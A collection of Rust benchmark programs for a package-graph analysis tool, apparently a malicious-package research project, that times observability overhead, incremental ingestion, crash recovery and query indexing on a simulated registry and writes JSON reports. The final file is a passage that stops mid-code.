