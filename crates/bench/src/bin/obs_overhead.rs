//! One-shot overhead measurement of the `obs` instrumentation on the
//! collect→build pipeline, written to `BENCH_PR4.json` (ISSUE 4).
//!
//! The observability contract is that disabled instrumentation costs one
//! predictable branch per site and enabled instrumentation stays under
//! 2% of pipeline wall time. This bin measures both modes on the same
//! world and reports the relative overhead.
//!
//! ```text
//! cargo run -p malgraph-bench --bin obs_overhead --release
//! ```
//!
//! `Instant` is used *on purpose* here: this tool benchmarks `obs`
//! itself, so it cannot measure with the instrument under test.

use crawler::collect;
use malgraph_core::{build, BuildOptions};
use registry_sim::{World, WorldConfig};
use std::time::Instant;

const SEED: u64 = 42;
const SCALE: f64 = 0.2;
const REPS: usize = 3;

/// Best-of-`reps` wall time (guards against scheduler noise).
fn millis<R>(reps: usize, mut f: impl FnMut() -> R) -> (f64, R) {
    let mut best = f64::INFINITY;
    let mut out = None;
    for _ in 0..reps.max(1) {
        let started = Instant::now();
        out = Some(f());
        best = best.min(started.elapsed().as_secs_f64() * 1e3);
    }
    (best, out.expect("reps >= 1"))
}

fn pipeline(world: &World) -> usize {
    let dataset = collect(world);
    let graph = build(&dataset, &BuildOptions::default());
    graph.graph.node_count() + graph.graph.edge_count()
}

fn main() {
    let threads = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(1);
    let config = WorldConfig {
        seed: SEED,
        ..WorldConfig::default()
    }
    .with_scale(SCALE);
    eprintln!("generating world (seed {SEED}, scale {SCALE})…");
    let world = World::generate(config);

    obs::disable();
    pipeline(&world); // untimed warm-up (allocator + page-cache warm)
    let (disabled_ms, size_disabled) = millis(REPS, || pipeline(&world));
    eprintln!("disabled: {disabled_ms:.0} ms");

    obs::enable();
    let (enabled_ms, size_enabled) = millis(REPS, || {
        obs::reset();
        pipeline(&world)
    });
    obs::disable();
    eprintln!("enabled:  {enabled_ms:.0} ms");

    assert_eq!(
        size_disabled, size_enabled,
        "instrumentation must not change the graph"
    );

    let overhead_pct = 100.0 * (enabled_ms - disabled_ms) / disabled_ms;
    eprintln!("overhead: {overhead_pct:+.2}% (target < 2%)");

    let report = jsonio::object! {
        "bench": "obs_overhead",
        "issue": "PR4: unified obs crate (tracing + metrics + exporters)",
        "seed": SEED,
        "scale": SCALE,
        "reps": REPS,
        "host_threads": threads,
        "pipeline": "collect -> build",
        "disabled_ms": disabled_ms,
        "enabled_ms": enabled_ms,
        "overhead_pct": overhead_pct,
        "target": "overhead_pct < 2.0",
        "note": "best-of-reps wall times on the same world; \
                 graph size asserted identical in both modes",
    };
    std::fs::write("BENCH_PR4.json", report.to_pretty() + "\n").expect("write BENCH_PR4.json");
    eprintln!("wrote BENCH_PR4.json");
}
