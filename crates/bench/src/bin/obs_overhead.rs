//! One-shot overhead measurement of the `obs` instrumentation on the
//! collect→build pipeline, written to `BENCH_PR9.json`.
//!
//! The observability contract is that disabled instrumentation costs one
//! predictable branch per site and enabled instrumentation stays under
//! 2% of pipeline wall time. Since PR 9 "enabled" means the full
//! profiling stack: spans with self-time attribution (thread-local span
//! stack + child accumulators) *and* allocation accounting through the
//! counting global allocator — this bin measures both modes on the same
//! world with everything on and reports the relative overhead
//! (originally `BENCH_PR4.json`, which measured spans/metrics alone).
//!
//! # Methodology
//!
//! Many small interleaved, order-alternating disabled/enabled pairs;
//! the reported overhead is the ratio of the two arms' *summed* wall
//! times. On a shared host the wall time of identical runs swings by
//! ±20% (hypervisor scheduling, frequency drift, co-tenant cache
//! pressure), so best-of-N over two separately-timed arms happily
//! reports noise as instrumentation cost in either direction. Pairing
//! arms back-to-back makes the drift common-mode, alternating the order
//! inside a pair cancels any first-run advantage, and summing over many
//! short runs lets the √N averaging beat the remaining jitter; the
//! per-pair median and IQR are reported alongside as a dispersion check.
//!
//! ```text
//! cargo run -p malgraph-bench --bin obs_overhead --release
//! ```
//!
//! `Instant` is used *on purpose* here: this tool benchmarks `obs`
//! itself, so it cannot measure with the instrument under test.

use crawler::collect;
use malgraph_core::{build, BuildOptions};
use registry_sim::{World, WorldConfig};
use std::time::Instant;

// The counting allocator is installed for BOTH arms, as in the malgraph
// CLI: the disabled arm measures its passive cost (one relaxed load per
// allocation), the enabled arm its active cost.
#[global_allocator]
static ALLOC: obs::alloc::CountingAlloc = obs::alloc::CountingAlloc::new();

const SEED: u64 = 42;
const SCALE: f64 = 0.05;
const PAIRS: usize = 60;

/// One timed call.
fn millis<R>(f: impl FnOnce() -> R) -> (f64, R) {
    let started = Instant::now();
    let out = f();
    (started.elapsed().as_secs_f64() * 1e3, out)
}

fn pipeline(world: &World) -> usize {
    let dataset = collect(world);
    let graph = build(&dataset, &BuildOptions::default());
    graph.graph.node_count() + graph.graph.edge_count()
}

fn main() {
    let threads = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(1);
    let config = WorldConfig {
        seed: SEED,
        ..WorldConfig::default()
    }
    .with_scale(SCALE);
    eprintln!("generating world (seed {SEED}, scale {SCALE})…");
    let world = World::generate(config);

    obs::disable();
    pipeline(&world); // untimed warm-up (allocator + page-cache warm)

    let run_off = |world: &World| {
        obs::disable();
        obs::alloc::disable_tracking();
        millis(|| pipeline(world))
    };
    let run_on = |world: &World| {
        obs::enable();
        obs::alloc::enable_tracking();
        millis(|| {
            obs::reset();
            pipeline(world)
        })
    };

    let mut disabled_sum = 0.0;
    let mut enabled_sum = 0.0;
    let mut pair_pcts = Vec::with_capacity(PAIRS);
    let mut size_disabled = 0;
    let mut size_enabled = 0;
    for pair in 0..PAIRS {
        let ((off_ms, off_size), (on_ms, on_size)) = if pair % 2 == 0 {
            let off = run_off(&world);
            let on = run_on(&world);
            (off, on)
        } else {
            let on = run_on(&world);
            let off = run_off(&world);
            (off, on)
        };
        disabled_sum += off_ms;
        enabled_sum += on_ms;
        pair_pcts.push(100.0 * (on_ms - off_ms) / off_ms);
        size_disabled = off_size;
        size_enabled = on_size;
        if (pair + 1) % 10 == 0 {
            eprintln!(
                "after {} pairs: disabled {disabled_sum:.0} ms total, \
                 enabled {enabled_sum:.0} ms total ({:+.2}%)",
                pair + 1,
                100.0 * (enabled_sum - disabled_sum) / disabled_sum
            );
        }
    }
    let snapshot = obs::snapshot();
    obs::alloc::disable_tracking();
    obs::disable();

    assert_eq!(
        size_disabled, size_enabled,
        "instrumentation must not change the graph"
    );
    // Sanity: the profiling features were actually live in the timed arm.
    assert!(
        snapshot.spans.iter().any(|s| s.self_us > 0),
        "enabled arm must attribute self time"
    );
    assert!(
        snapshot.spans.iter().any(|s| s.alloc_bytes > 0),
        "enabled arm must attribute allocations"
    );
    assert!(!snapshot.folded.is_empty(), "enabled arm must fold stacks");

    let overhead_pct = 100.0 * (enabled_sum - disabled_sum) / disabled_sum;
    let mut sorted = pair_pcts.clone();
    sorted.sort_by(|a, b| a.total_cmp(b));
    let median_pct = sorted[sorted.len() / 2];
    let (q1, q3) = (sorted[sorted.len() / 4], sorted[3 * sorted.len() / 4]);
    eprintln!(
        "overhead: {overhead_pct:+.2}% over {PAIRS} interleaved pairs \
         (per-pair median {median_pct:+.2}%, IQR [{q1:+.2}%, {q3:+.2}%]; target < 2%)"
    );

    let report = jsonio::object! {
        "bench": "obs_overhead",
        "issue": "PR9: self-time attribution + alloc accounting on the obs spine",
        "seed": SEED,
        "scale": SCALE,
        "pairs": PAIRS,
        "host_threads": threads,
        "pipeline": "collect -> build",
        "profiling": "spans + self-time + folded stacks + counting allocator",
        "disabled_ms": disabled_sum,
        "enabled_ms": enabled_sum,
        "overhead_pct": overhead_pct,
        "pair_median_pct": median_pct,
        "pair_iqr_pct": vec![q1, q3],
        "target": "overhead_pct < 2.0",
        "note": "overhead_pct compares summed wall times over interleaved, \
                 order-alternating disabled/enabled pairs — pairing makes \
                 host noise (±20% on identical runs here) common-mode and \
                 the sum averages the rest; per-pair median/IQR shown as a \
                 dispersion check; graph size asserted identical in both \
                 modes; counting allocator installed in both arms (tracking \
                 on only in the enabled arm)",
    };
    std::fs::write("BENCH_PR9.json", report.to_pretty() + "\n").expect("write BENCH_PR9.json");
    eprintln!("wrote BENCH_PR9.json");
}
