//! One-shot wall-time comparison of delta ingestion against a full
//! rebuild, written to `BENCH_PR8.json` — the perf-trajectory record for
//! the incremental ingestion subsystem (ISSUE 8), next to the PR-6
//! kernel and PR-7 analysis numbers.
//!
//! The scenario is continuous monitoring: a graph has already ingested
//! the first `WINDOWS - 1` disclosure-quantile windows of the corpus
//! (~90% of packages) when the final window (~10%) arrives. The number
//! that matters is the cost of folding that late window in:
//!
//! * **full rebuild** — `build()` over the union corpus, the pre-PR
//!   answer to "new data arrived" (and the identity oracle);
//! * **delta ingest** — [`MalGraph::apply_delta`] of the final window
//!   onto the warm incremental state: nodes append, cheap edge stages
//!   re-emit, similarity re-embeds only unseen packages and refines over
//!   collapsed distinct vectors.
//!
//! Each measurement is the **minimum** over [`REPS`] repetitions on
//! fresh state (the incremental pass re-ingests its prefix from scratch
//! every repetition, so no rep inherits another's warm caches);
//! preemption noise on a shared host is strictly additive, so the
//! minimum is the faithful per-stage estimate. Before any time is
//! reported, every repetition's incremental graph is asserted
//! node-for-node and edge-for-edge identical to the full rebuild, with
//! identical similarity diagnostics and component groups — the speedup
//! is for the same graph, not an approximation of it.
//!
//! ```text
//! cargo run -p malgraph-bench --bin ingest_bench --release [-- --quick]
//! ```
//!
//! `--quick` runs at scale 0.05 (the CI smoke configuration) and writes
//! `BENCH_PR8_quick.json` instead.

use crawler::{collect, partition_windows, union_dataset};
use malgraph_core::{build, BuildOptions, IngestState, MalGraph, Relation};
use registry_sim::{WindowPlan, World, WorldConfig};
use std::time::Instant;

const SEED: u64 = 42;
/// Disclosure-quantile windows; the timed delta is the last one (~10%
/// of the corpus, the acceptance scenario of ISSUE 8).
const WINDOWS: usize = 10;
/// Repetitions per pass; minima are reported.
const REPS: usize = 3;

fn main() {
    let quick = std::env::args().any(|a| a == "--quick");
    let scale = if quick { 0.05 } else { 1.0 };
    let host_threads = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(1);
    obs::enable();

    let config = WorldConfig {
        seed: SEED,
        ..WorldConfig::default()
    }
    .with_scale(scale);
    let world = World::generate(config);
    let dataset = collect(&world);
    let plan = WindowPlan::disclosure_quantiles(&world, WINDOWS);
    let deltas = partition_windows(&dataset, &plan);
    let union = union_dataset(&deltas);
    // Quantile plans deduplicate equal bounds, so the partition can hold
    // fewer than WINDOWS deltas; split on what actually came back.
    let (prefix, timed) = deltas.split_at(deltas.len() - 1);
    let last = &timed[0];
    let options = BuildOptions::default();
    eprintln!(
        "corpus: {} packages / {} reports in {} windows; final window carries \
         {} packages / {} reports ({:.1}%)",
        union.packages.len(),
        union.reports.len(),
        deltas.len(),
        last.packages.len(),
        last.reports.len(),
        100.0 * last.packages.len() as f64 / union.packages.len().max(1) as f64,
    );

    eprintln!("pass 1/2: full rebuild over the union (seed {SEED}, scale {scale}, best of {REPS})…");
    let mut full_ms = f64::INFINITY;
    let mut oracle: Option<MalGraph> = None;
    for _ in 0..REPS {
        let t0 = Instant::now();
        let graph = build(&union, &options);
        full_ms = full_ms.min(t0.elapsed().as_secs_f64() * 1e3);
        oracle = Some(graph);
    }
    let oracle = oracle.expect("REPS >= 1");
    eprintln!("  full rebuild      {full_ms:8.0} ms");

    eprintln!("pass 2/2: delta ingest of the final window (fresh prefix per rep, best of {REPS})…");
    let mut prefix_ms = f64::INFINITY;
    let mut delta_ms = f64::INFINITY;
    for _ in 0..REPS {
        let mut graph = MalGraph::empty();
        let mut state = IngestState::new();
        let t0 = Instant::now();
        for delta in prefix {
            graph.apply_delta(delta, &options, &mut state);
        }
        prefix_ms = prefix_ms.min(t0.elapsed().as_secs_f64() * 1e3);
        let t0 = Instant::now();
        graph.apply_delta(last, &options, &mut state);
        delta_ms = delta_ms.min(t0.elapsed().as_secs_f64() * 1e3);
        // Bitwise-identity gate: the incremental graph must *be* the
        // full rebuild before its time is worth reporting.
        assert_identical(&graph, &oracle);
        assert_eq!(state.dataset().packages, union.packages);
        assert_eq!(state.dataset().reports, union.reports);
    }
    eprintln!("  prefix ({} windows) {prefix_ms:6.0} ms", prefix.len());
    eprintln!("  final-window delta {delta_ms:7.0} ms");

    let speedup = full_ms / delta_ms;
    eprintln!(
        "delta ingest of the final window: {speedup:.2}x faster than a full rebuild \
         (target ≥ 5x)"
    );

    let rows: Vec<jsonio::Value> = deltas
        .iter()
        .map(|d| {
            jsonio::object! {
                "window": d.window,
                "packages": d.packages.len(),
                "reports": d.reports.len(),
            }
        })
        .collect();
    let report = jsonio::object! {
        "bench": "incremental_ingest",
        "issue": "PR8: incremental corpus ingestion with cache-aware invalidation",
        "seed": SEED,
        "scale": scale,
        "quick": quick,
        "host_threads": host_threads,
        "windows_requested": WINDOWS,
        "windows": deltas.len(),
        "reps": REPS,
        "union_packages": union.packages.len(),
        "union_reports": union.reports.len(),
        "last_window_packages": last.packages.len(),
        "last_window_reports": last.reports.len(),
        "full_build_ms": full_ms,
        "prefix_ingest_ms": prefix_ms,
        "delta_ingest_ms": delta_ms,
        "speedup_delta_vs_full": speedup,
        "target": "delta ingest of the final ~10% window >= 5x faster than a full rebuild",
        "note": "minima over reps repetitions; the incremental pass re-ingests \
                 its prefix from scratch each repetition, and every repetition's \
                 graph is asserted node-for-node and edge-for-edge identical to \
                 the full rebuild (plus identical similarity diagnostics and \
                 component groups) before any time is reported.",
        "results": jsonio::Value::Array(rows),
    };
    let path = if quick { "BENCH_PR8_quick.json" } else { "BENCH_PR8.json" };
    std::fs::write(path, report.to_pretty() + "\n").unwrap_or_else(|e| panic!("write {path}: {e}"));
    eprintln!("wrote {path}");
}

/// Panics unless the incremental graph matches the oracle bitwise —
/// node table, edge list, similarity diagnostics and (as a query-path
/// check) the per-relation component groups.
fn assert_identical(incremental: &MalGraph, oracle: &MalGraph) {
    let nodes = |g: &MalGraph| g.graph.nodes().map(|(_, n)| n.clone()).collect::<Vec<_>>();
    assert_eq!(nodes(incremental), nodes(oracle), "node tables diverged");
    let edges = |g: &MalGraph| {
        g.graph
            .edges()
            .map(|e| (e.from.index(), e.to.index(), e.label))
            .collect::<Vec<_>>()
    };
    assert_eq!(edges(incremental), edges(oracle), "edge lists diverged");
    assert_eq!(
        incremental.similarity_diagnostics.len(),
        oracle.similarity_diagnostics.len()
    );
    for ((eco_a, out_a), (eco_b, out_b)) in incremental
        .similarity_diagnostics
        .iter()
        .zip(&oracle.similarity_diagnostics)
    {
        assert_eq!(eco_a, eco_b);
        assert_eq!(out_a.pairs, out_b.pairs, "{eco_a:?} similarity pairs diverged");
        assert_eq!(out_a.chosen_k, out_b.chosen_k, "{eco_a:?} chosen k diverged");
    }
    for relation in Relation::ALL {
        assert_eq!(
            incremental.groups(relation),
            oracle.groups(relation),
            "{relation:?} groups diverged"
        );
    }
}
