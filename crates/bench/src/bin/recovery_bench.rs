//! Resume-vs-rebuild wall-time comparison for the crash-consistent
//! checkpoint store (ISSUE 10), written to `BENCH_PR10.json` — the
//! perf-trajectory record for the recovery subsystem, next to the PR-8
//! ingestion numbers.
//!
//! Two staged crashes bracket the recovery cost:
//!
//! * **crash after the final checkpoint sealed** (`checkpoint/publish`,
//!   last occurrence) — every window durable; resume is the pure
//!   recovery path: validate the newest generation's checksum, restore
//!   the graph from it (similarity outputs applied from disk, not
//!   recomputed), find nothing left to replay. This is the headline
//!   `resume_ms`, held to the ≥ 3× target.
//! * **crash right after the last delta applied in memory**
//!   (`ingest/apply`, last occurrence) — the worst case: a full window
//!   of similarity work was never durable. Resume restores the
//!   second-to-last generation, replays the journaled final window
//!   through the ordinary ingest path, and re-checkpoints. Reported as
//!   `resume_lost_window_ms`; the replay redoes real lost work, so it
//!   is *not* held to the headline target.
//!
//! The baseline both are measured against is a **cold full rebuild**:
//! `build()` over the union corpus, the pre-checkpoint answer to "the
//! process died" (and the identity oracle). `restore_only_ms` isolates
//! the bare `recover()` call against a complete directory.
//!
//! Each measurement is the **minimum** over [`REPS`] repetitions; every
//! resume repetition restores a pristine copy of its crashed directory
//! (resuming can mutate the store — the worst case re-checkpoints), so
//! no rep inherits another's generations. Before any time is reported,
//! every resumed graph is asserted node-for-node and edge-for-edge
//! identical to the full rebuild, with identical similarity diagnostics
//! — the speedup is for the same graph, not an approximation of it.
//!
//! ```text
//! cargo run -p malgraph-bench --bin recovery_bench --release [-- --quick]
//! ```
//!
//! `--quick` runs at scale 0.05 (the CI smoke configuration) and writes
//! `BENCH_PR10_quick.json` instead.

use crawler::{collect, partition_windows, union_dataset};
use malgraph_core::{
    build, recover, run_checkpointed_ingest, BuildOptions, CheckpointOptions, CheckpointStore,
    MalGraph, Relation,
};
use oss_types::CrashPlan;
use registry_sim::{WindowPlan, World, WorldConfig};
use std::path::{Path, PathBuf};
use std::time::Instant;

const SEED: u64 = 42;
/// Disclosure-quantile windows; the crashes land in the last one.
const WINDOWS: usize = 10;
/// Repetitions per pass; minima are reported.
const REPS: usize = 3;

fn main() {
    let quick = std::env::args().any(|a| a == "--quick");
    let scale = if quick { 0.05 } else { 1.0 };
    let host_threads = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(1);

    let config = WorldConfig {
        seed: SEED,
        ..WorldConfig::default()
    }
    .with_scale(scale);
    let world = World::generate(config);
    let dataset = collect(&world);
    let plan = WindowPlan::disclosure_quantiles(&world, WINDOWS);
    let deltas = partition_windows(&dataset, &plan);
    let union = union_dataset(&deltas);
    let options = BuildOptions::default();
    eprintln!(
        "corpus: {} packages / {} reports in {} windows",
        union.packages.len(),
        union.reports.len(),
        deltas.len(),
    );

    let work = std::env::temp_dir().join(format!("malgraph-recovery-bench-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&work);
    std::fs::create_dir_all(&work).expect("create bench dir");

    eprintln!("pass 1/4: cold full rebuild over the union (seed {SEED}, scale {scale}, best of {REPS})…");
    let mut full_ms = f64::INFINITY;
    let mut oracle: Option<MalGraph> = None;
    for _ in 0..REPS {
        let t0 = Instant::now();
        let graph = build(&union, &options);
        full_ms = full_ms.min(t0.elapsed().as_secs_f64() * 1e3);
        oracle = Some(graph);
    }
    let oracle = oracle.expect("REPS >= 1");
    eprintln!("  cold full rebuild        {full_ms:8.0} ms");

    let stage = |tag: &str, point: &str| -> PathBuf {
        let template = work.join(format!("crashed-{tag}"));
        let store = CheckpointStore::open(&template).expect("open template store");
        let crashed = run_checkpointed_ingest(
            &deltas,
            &options,
            &store,
            &CrashPlan::at(point, deltas.len() as u32),
            &CheckpointOptions::default(),
        );
        assert!(crashed.is_err(), "the staged crash at {point} must fire");
        template
    };
    let resume_pass = |template: &Path, tag: &str| -> f64 {
        let mut best = f64::INFINITY;
        for rep in 0..REPS {
            let dir = work.join(format!("resume-{tag}-{rep}"));
            copy_dir(template, &dir);
            let store = CheckpointStore::open(&dir).expect("open resume store");
            let t0 = Instant::now();
            let (graph, state) = run_checkpointed_ingest(
                &deltas,
                &options,
                &store,
                &CrashPlan::none(),
                &CheckpointOptions::default(),
            )
            .expect("resume succeeds");
            best = best.min(t0.elapsed().as_secs_f64() * 1e3);
            assert_eq!(state.windows_applied(), deltas.len());
            assert_eq!(state.dataset().packages, union.packages);
            assert_eq!(state.dataset().reports, union.reports);
            assert_identical(&graph, &oracle);
        }
        best
    };

    eprintln!("pass 2/4: resume after a crash past the final checkpoint (checkpoint/publish, best of {REPS})…");
    let sealed = stage("sealed", "checkpoint/publish");
    let resume_ms = resume_pass(&sealed, "sealed");
    eprintln!("  resume (all durable)     {resume_ms:8.0} ms");

    eprintln!("pass 3/4: resume after a crash that lost the final window (ingest/apply, best of {REPS})…");
    let lost = stage("lost-window", "ingest/apply");
    let lost_ms = resume_pass(&lost, "lost");
    eprintln!("  resume (replay + reseal) {lost_ms:8.0} ms");

    // Bare `recover()` against a complete directory: the checksum-
    // validate + rebuild-from-snapshot cost with no driver around it.
    eprintln!("pass 4/4: restore-only recovery from a complete checkpoint (best of {REPS})…");
    let complete = work.join("resume-sealed-0");
    let store = CheckpointStore::open(&complete).expect("open complete store");
    let mut restore_ms = f64::INFINITY;
    for _ in 0..REPS {
        let t0 = Instant::now();
        let (graph, state) = recover(&store, &options).expect("recover");
        restore_ms = restore_ms.min(t0.elapsed().as_secs_f64() * 1e3);
        assert_eq!(state.windows_applied(), deltas.len());
        assert_identical(&graph, &oracle);
    }
    eprintln!("  restore only             {restore_ms:8.0} ms");

    let speedup = full_ms / resume_ms;
    let lost_speedup = full_ms / lost_ms;
    eprintln!(
        "resume: {speedup:.2}x faster than a cold full rebuild (target ≥ 3x); \
         worst case with the final window lost: {lost_speedup:.2}x"
    );

    let report = jsonio::object! {
        "bench": "crash_recovery",
        "issue": "PR10: crash-consistent checkpointing with deterministic crash injection",
        "seed": SEED,
        "scale": scale,
        "quick": quick,
        "host_threads": host_threads,
        "windows_requested": WINDOWS,
        "windows": deltas.len(),
        "reps": REPS,
        "union_packages": union.packages.len(),
        "union_reports": union.reports.len(),
        "full_build_ms": full_ms,
        "resume_ms": resume_ms,
        "resume_lost_window_ms": lost_ms,
        "restore_only_ms": restore_ms,
        "speedup_resume_vs_full": speedup,
        "speedup_lost_window_vs_full": lost_speedup,
        "target": "resume of a run crashed after its final checkpoint sealed >= 3x \
                   faster than a cold full rebuild",
        "note": "minima over reps repetitions; resume_ms is a crash at the last \
                 checkpoint/publish (every window durable, pure restore), \
                 resume_lost_window_ms is a crash at the last ingest/apply (a full \
                 window of similarity work never durable — replay redoes it). Every \
                 resume repetition starts from a pristine copy of its crashed \
                 directory and its graph is asserted node-for-node and \
                 edge-for-edge identical to the full rebuild (plus identical \
                 similarity diagnostics) before any time is reported.",
    };
    let path = if quick { "BENCH_PR10_quick.json" } else { "BENCH_PR10.json" };
    std::fs::write(path, report.to_pretty() + "\n").unwrap_or_else(|e| panic!("write {path}: {e}"));
    eprintln!("wrote {path}");
    let _ = std::fs::remove_dir_all(&work);
}

/// Recursively copies the checkpoint directory template (two levels:
/// the store root and its `journal/` subdirectory).
fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).expect("create copy target");
    for entry in std::fs::read_dir(from).expect("read template") {
        let entry = entry.expect("entry");
        let target = to.join(entry.file_name());
        if entry.file_type().expect("file type").is_dir() {
            copy_dir(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), &target).expect("copy file");
        }
    }
}

/// Panics unless the resumed graph matches the oracle bitwise — node
/// table, edge list, similarity diagnostics and (as a query-path check)
/// the per-relation component groups.
fn assert_identical(resumed: &MalGraph, oracle: &MalGraph) {
    let nodes = |g: &MalGraph| g.graph.nodes().map(|(_, n)| n.clone()).collect::<Vec<_>>();
    assert_eq!(nodes(resumed), nodes(oracle), "node tables diverged");
    let edges = |g: &MalGraph| {
        g.graph
            .edges()
            .map(|e| (e.from.index(), e.to.index(), e.label))
            .collect::<Vec<_>>()
    };
    assert_eq!(edges(resumed), edges(oracle), "edge lists diverged");
    assert_eq!(resumed.similarity_diagnostics.len(), oracle.similarity_diagnostics.len());
    for ((eco_a, out_a), (eco_b, out_b)) in resumed
        .similarity_diagnostics
        .iter()
        .zip(&oracle.similarity_diagnostics)
    {
        assert_eq!(eco_a, eco_b);
        assert_eq!(out_a.pairs, out_b.pairs, "{eco_a:?} similarity pairs diverged");
        assert_eq!(out_a.chosen_k, out_b.chosen_k, "{eco_a:?} chosen k diverged");
        let bits = |t: &[(usize, f32)]| t.iter().map(|&(k, f)| (k, f.to_bits())).collect::<Vec<_>>();
        assert_eq!(bits(&out_a.trace), bits(&out_b.trace), "{eco_a:?} trace bits diverged");
    }
    for relation in Relation::ALL {
        assert_eq!(
            resumed.groups(relation),
            oracle.groups(relation),
            "{relation:?} groups diverged"
        );
    }
}
