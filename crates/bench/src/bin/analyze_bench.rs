//! One-shot wall-time comparison of the analysis harness's query
//! provisioning modes, written to `BENCH_PR7.json` — the perf-trajectory
//! record for the indexed graph queries, sandbox memoisation and
//! parallel section harness (ISSUE 7), next to the PR-1/PR-6 kernel
//! numbers.
//!
//! Three passes over the same seed/scale, each repeated [`REPS`] times
//! on freshly built contexts (no pass inherits another's warm caches)
//! with per-section **minimum** wall times reported — on a single-core
//! host the repro shares the CPU with whatever else runs, and preemption
//! noise is strictly additive, so the minimum of a few repetitions is
//! the faithful estimate of each section's cost (the first repetition
//! also absorbs first-touch page faults the same way):
//!
//! * **uncached** — [`AnalyzeMode::Uncached`], serial: every section
//!   recomputes components, sequences and sandbox verdicts from scratch
//!   (the pre-index behaviour of the harness);
//! * **indexed** — [`AnalyzeMode::Indexed`], serial: sections share the
//!   lazily built component/corpus indexes and the sandbox cache;
//! * **indexed, 7 threads** — the same fast path fanned out over
//!   [`Repro::run_all`]'s scoped workers.
//!
//! Every section of every pass and repetition is asserted
//! **byte-identical** to the uncached reference before any time is
//! reported — the speedups are for the same report, not an approximation
//! of it.
//!
//! ```text
//! cargo run -p malgraph-bench --bin analyze_bench --release [-- --quick]
//! ```
//!
//! `--quick` runs at scale 0.05 (the CI smoke configuration, well under
//! a minute) and writes `BENCH_PR7_quick.json` instead.

use malgraph_bench::{AnalyzeMode, Repro, EXPERIMENTS, EXTENSIONS};
use std::time::Instant;

const SEED: u64 = 42;
const THREADS: usize = 7;
/// Repetitions per pass; per-section minima are reported.
const REPS: usize = 3;
/// The pre-PR `analyze` stage wall time at seed 42 / scale 1.0 on this
/// host, as recorded by the repro bin in EXPERIMENTS.md before the
/// indexed query layer landed ("analyze 27.62s"). Kept here so the
/// report can state the end-to-end trajectory as well as the
/// like-for-like uncached/indexed comparison (the PR also sped up code
/// both modes share — interpreter, parser, rule matching — which lowers
/// the uncached baseline below its pre-PR cost).
const SEED_ANALYZE_MS: f64 = 27620.0;

fn main() {
    let quick = std::env::args().any(|a| a == "--quick");
    let scale = if quick { 0.05 } else { 1.0 };
    let host_threads = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(1);
    let ids: Vec<&str> = EXPERIMENTS.iter().chain(EXTENSIONS.iter()).copied().collect();

    eprintln!(
        "pass 1/3: uncached serial reference (seed {SEED}, scale {scale}, best of {REPS})…"
    );
    let mut reference_sections: Vec<String> = Vec::new();
    let mut uncached_ms = vec![f64::INFINITY; ids.len()];
    for rep in 0..REPS {
        let reference = Repro::with_mode(SEED, scale, AnalyzeMode::Uncached);
        for (i, id) in ids.iter().enumerate() {
            let t0 = Instant::now();
            let section = reference.run(id);
            let ms = t0.elapsed().as_secs_f64() * 1e3;
            uncached_ms[i] = uncached_ms[i].min(ms);
            if rep == 0 {
                reference_sections.push(section);
            } else {
                assert_eq!(
                    &section, &reference_sections[i],
                    "{id}: uncached rerun diverged — the harness is nondeterministic"
                );
            }
        }
    }
    report_pass(&ids, &uncached_ms);

    eprintln!("pass 2/3: indexed serial (fresh context per rep, best of {REPS})…");
    let mut indexed_ms = vec![f64::INFINITY; ids.len()];
    for _ in 0..REPS {
        let indexed = Repro::with_mode(SEED, scale, AnalyzeMode::Indexed);
        for (i, id) in ids.iter().enumerate() {
            let t0 = Instant::now();
            let section = indexed.run(id);
            let ms = t0.elapsed().as_secs_f64() * 1e3;
            // Bitwise-equivalence gate: the fast path must produce the
            // identical report before its time is worth reporting.
            assert_eq!(
                &section, &reference_sections[i],
                "{id}: indexed output diverged from the serial reference"
            );
            indexed_ms[i] = indexed_ms[i].min(ms);
        }
    }
    report_pass(&ids, &indexed_ms);

    eprintln!(
        "pass 3/3: indexed, {THREADS} threads (fresh context per rep, best of {REPS})…"
    );
    let mut parallel_ms = f64::INFINITY;
    for _ in 0..REPS {
        let parallel = Repro::with_mode(SEED, scale, AnalyzeMode::Indexed);
        let t0 = Instant::now();
        let sections = parallel.run_all(&ids, THREADS);
        parallel_ms = parallel_ms.min(t0.elapsed().as_secs_f64() * 1e3);
        for ((id, section), expected) in ids.iter().zip(&sections).zip(&reference_sections) {
            assert_eq!(
                section, expected,
                "{id}: {THREADS}-thread output diverged from the serial reference"
            );
        }
    }

    let uncached_total: f64 = uncached_ms.iter().sum();
    let indexed_total: f64 = indexed_ms.iter().sum();
    let rows: Vec<jsonio::Value> = ids
        .iter()
        .zip(uncached_ms.iter().zip(&indexed_ms))
        .map(|(id, (&u, &i))| {
            jsonio::object! {
                "id": *id,
                "uncached_ms": u,
                "indexed_ms": i,
                "speedup": if i > 0.0 { u / i } else { 0.0 },
            }
        })
        .collect();
    eprintln!(
        "analyze totals: uncached {uncached_total:.0} ms · indexed {indexed_total:.0} ms \
         ({:.2}x) · {THREADS}-thread {parallel_ms:.0} ms",
        uncached_total / indexed_total
    );
    if !quick {
        eprintln!(
            "vs pre-PR analyze stage ({:.1} s): {:.2}x",
            SEED_ANALYZE_MS / 1e3,
            SEED_ANALYZE_MS / indexed_total
        );
    }

    let report = jsonio::object! {
        "bench": "analysis_harness",
        "issue": "PR7: indexed graph queries and parallel analysis harness",
        "seed": SEED,
        "scale": scale,
        "quick": quick,
        "host_threads": host_threads,
        "threads": THREADS,
        "reps": REPS,
        "sections": ids.len(),
        "uncached_total_ms": uncached_total,
        "indexed_total_ms": indexed_total,
        "indexed_parallel_ms": parallel_ms,
        "speedup_indexed": uncached_total / indexed_total,
        "speedup_parallel": uncached_total / parallel_ms,
        "seed_analyze_ms": SEED_ANALYZE_MS,
        "speedup_vs_seed": SEED_ANALYZE_MS / indexed_total,
        "note": "per-section minima over reps repetitions, each on a fresh \
                 context; every section of every pass asserted byte-identical \
                 to the uncached serial reference before any time is \
                 reported. seed_analyze_ms is the pre-PR analyze stage as \
                 recorded in EXPERIMENTS.md (the uncached pass runs below it \
                 because interpreter/parser/rule-matching improvements of \
                 this PR apply to both modes).",
        "results": jsonio::Value::Array(rows),
    };
